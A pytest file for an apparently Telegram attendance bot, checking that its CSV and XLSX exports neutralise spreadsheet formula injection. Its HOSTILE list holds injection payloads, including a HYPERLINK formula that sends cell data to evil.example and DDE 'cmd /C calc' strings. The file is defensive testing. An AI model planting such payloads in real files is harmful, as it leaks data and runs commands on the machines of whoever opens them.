"""Every CSV and XLSX the bot writes keeps typed text as text: hostile names, towns, session titles, places, notes
and authors never become a formula (OWASP "CSV injection"), and real numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from bot.services.access import OPERATOR, Principal
from bot.services.attendance import AttendanceReports, AttendanceService
from bot.services.attendance.exports import absentees_csv, attendance_csv, attendance_xlsx, session_csv
from bot.services.people import CohortService
from bot.spreadsheet_cells import csv_bytes, csv_cell, looks_like_formula
from handlers.broadcast_views import report_csv
from storage.attendance.dto import AttendanceStatus
from storage.broadcasts import ReportRow
from storage.dto import DeliveryState, Role
from storage.uow import Database

T0 = dt.datetime(2026, 12, 3, 15, 0, tzinfo=dt.UTC)
COORDINATOR = Principal(telegram_id=1000, locale="en", is_coordinator=True)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Hit")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces
    "\u200f\u2068=1+1",  # right-to-left and isolate marks, as an Arabic keyboard may type them
    "\ufeff@x",
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
]
HARMLESS = ["هيت", "Ali Hassan", "-5", "+3.5", "-12%", "12", "a=b", "e-mail", "", "٣-٤"]


def clock() -> dt.datetime:
    return T0 + dt.timedelta(days=10)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text
    cells = next(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"))))
    assert cells == ["'" + text]


@pytest.mark.parametrize("value", [*HARMLESS, -5, 3.25, 0, None])
def test_real_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def assert_no_formula_csv(data: bytes) -> list[list[str]]:
    """No cell of the CSV starts (after spaces and invisible marks) like a formula."""
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in table:
        for cell in row:
            assert not looks_like_formula(cell), cell
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    return table


def assert_no_formula_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen += 1
    assert seen, "the hostile texts are in the file"


@pytest.fixture
async def hostile_cohort(db: Database) -> tuple[int, int]:
    """Trainees whose names and towns are formulas, sessions with formula titles and places, formula notes,
    and a roll changed by someone whose name is a formula; everyone absent twice or more (so on the absentees
    list). Returns (cohort id, first session id)."""
    created = await CohortService(db, clock).create(
        OPERATOR, name="Hostile", start_date=dt.date(2026, 12, 1), lesson_time=dt.time(18), timezone="Asia/Baghdad"
    )
    cohort_id = created.cohort.id
    joined = T0 - dt.timedelta(days=5)
    ids: list[int] = []
    async with db.unit_of_work() as uow:
        for number, text in enumerate(HOSTILE, 1):
            person = await uow.people.add(number, joined, "en")
            await uow.people.register(
                person.id, full_name=text, name_key=f"k{number}", town=text, locale="en", consent_at=joined
            )
            await uow.memberships.add(person.id, cohort_id, Role.TRAINEE, joined)
            ids.append(person.id)
        await uow.commit()
    attendance = AttendanceService(db, clock=clock)
    sessions = []
    for day in range(3):
        starts_at = T0 + dt.timedelta(days=day)
        sessions.append(
            await attendance.add_session(
                OPERATOR, cohort_id, title=HOSTILE[day], place=HOSTILE[-1 - day], starts_at=starts_at
            )
        )
    await attendance.mark(COORDINATOR, sessions[0].id, ids[0], AttendanceStatus.EXCUSED, note=HOSTILE[3])
    for session in sessions:  # the roll is taken at each: all three are held
        await attendance.mark(COORDINATOR, session.id, ids[1], AttendanceStatus.PRESENT, note=HOSTILE[-2])
    async with db.unit_of_work() as uow:  # the roll's author, as the audit sheet names them
        author = await uow.people.by_telegram_id(COORDINATOR.telegram_id)
        assert author is not None
        await uow.people.register(
            author.id, full_name=HOSTILE[0], name_key="author", town=HOSTILE[1], locale="en", consent_at=T0
        )
        await uow.commit()
    return cohort_id, sessions[0].id


async def test_every_attendance_export_keeps_hostile_text_as_text(
    db: Database, hostile_cohort: tuple[int, int]
) -> None:
    cohort_id, session_id = hostile_cohort
    reports = AttendanceReports(db, clock)
    grid = await reports.grid(COORDINATOR, cohort_id)
    for locale in ("ar", "en"):
        table = assert_no_formula_csv(attendance_csv(grid, locale))
        assert {row[2] for row in table[1 : len(HOSTILE) + 1]} == {"'" + text for text in HOSTILE}
        assert_no_formula_xlsx(attendance_xlsx(grid, locale))
    summary = await reports.summary(COORDINATOR, cohort_id)
    assert len(summary.flagged) == len(HOSTILE) - 1  # all but the one present each time
    table = assert_no_formula_csv(absentees_csv(summary, "en"))
    assert len(table) == len(HOSTILE)
    detail = await reports.session_detail(COORDINATOR, session_id)
    table = assert_no_formula_csv(session_csv(detail, "en"))
    assert "'" + HOSTILE[3] in [row[4] for row in table]  # the note, quoted


async def test_the_attendance_xlsx_keeps_numbers_and_dates_typed(db: Database, hostile_cohort: tuple[int, int]) -> None:
    cohort_id, _session_id = hostile_cohort
    grid = await AttendanceReports(db, clock).grid(COORDINATOR, cohort_id)
    book = openpyxl.load_workbook(io.BytesIO(attendance_xlsx(grid, "en")))
    first = book.worksheets[0]
    assert first["A2"].value == 1 and first["A2"].data_type == "n"
    assert book.worksheets[1]["B2"].is_date
    names = {cell.value for cell in first["B"][1 : len(HOSTILE) + 1]}
    assert names == {text.replace("\r", "\n") for text in HOSTILE}  # as typed, as text (XML reads CR as LF)


def test_the_broadcast_report_csv_keeps_hostile_text_as_text() -> None:
    sent = T0 + dt.timedelta(minutes=5)
    rows = [ReportRow(text, HOSTILE[-1 - i], DeliveryState.SENT, None, sent) for i, text in enumerate(HOSTILE)]
    rows.append(ReportRow(None, None, DeliveryState.FAILED, "=cmd|' /C calc'!A0", None))
    table = assert_no_formula_csv(report_csv(rows, "Asia/Baghdad"))
    assert table[1][:2] == ["'" + HOSTILE[0], "'" + HOSTILE[-1]]
    assert table[1][4] == "2026-12-03 18:05:00"
